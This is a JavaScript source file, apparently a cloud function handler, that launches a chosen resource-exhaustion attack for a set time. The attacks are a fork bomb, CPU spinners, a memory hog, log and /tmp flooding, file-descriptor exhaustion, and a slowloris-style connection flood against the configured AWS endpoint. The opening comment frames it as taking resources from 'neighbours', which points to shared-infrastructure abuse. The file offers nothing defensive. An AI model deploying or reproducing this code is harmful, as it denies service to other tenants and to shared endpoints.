// Takes from its neighbours what it can, in the way that the query asks for, for as long as it asks; then it ends its process,
// and with it all that it started.
const fs = require('fs');
const net = require('net');
const {spawn} = require('child_process');

const shell = script => spawn('/bin/sh', ['-c', script], {stdio: 'ignore'}).on('error', () => {});
const endpoint = new URL(process.env.AWS_ENDPOINT_URL);

const ways = {
  'fork bomb': () => shell('bomb() { bomb | bomb & }; while :; do bomb; done'),
  'spinner': () => { for (let i = 0; i < 64; i++) shell('while :; do :; done'); },
  // Grows beyond its limit, so that the kernel has to find and kill it, again and again.
  'memory hog': () => {
    const all = [];
    setInterval(() => { for (let i = 0; i < 16; i++) all.push(Buffer.alloc(4 << 20, 1)); }, 1);
  },
  'log flood': () => {
    const block = ('x'.repeat(200) + '\n').repeat(300);
    const more = () => { for (let i = 0; i < 20; i++) fs.writeSync(1, block); setImmediate(more); };
    more();
  },
  'tmp filler': () => {
    const block = Buffer.alloc(1 << 20, 1);
    const more = () => {
      try { for (let i = 0; i < 50; i++) fs.appendFileSync('/tmp/large', block); } catch { fs.rmSync('/tmp/large'); }
      setImmediate(more);
    };
    more();
  },
  'file hog': () => {
    for (let i = 0; i < 32; i++) {
      spawn(process.execPath, ['-e', 'const fs=require("fs");const go=()=>{const a=[];try{for(;;)a.push(fs.openSync("/proc/self/status"))}catch{}'
        + 'a.forEach(f=>fs.closeSync(f));setImmediate(go)};go()'], {stdio: 'ignore'}).on('error', () => {});
    }
  },
  'connections': () => {
    const more = () => {
      const s = net.connect({host: endpoint.hostname, port: endpoint.port});
      s.on('connect', () => { s.write('POST / HTTP/1.1\r\nHost: x\r\nX-Slow: '); setTimeout(() => s.destroy(), 50); more(); });
      s.on('error', () => setTimeout(more, 1));
    };
    for (let i = 0; i < 200; i++) more();
  },
};

exports.handler = ({queryStringParameters: {what, ms}}) => new Promise(() => {
  setTimeout(() => process.exit(0), Number(ms));
  ways[what]();
});
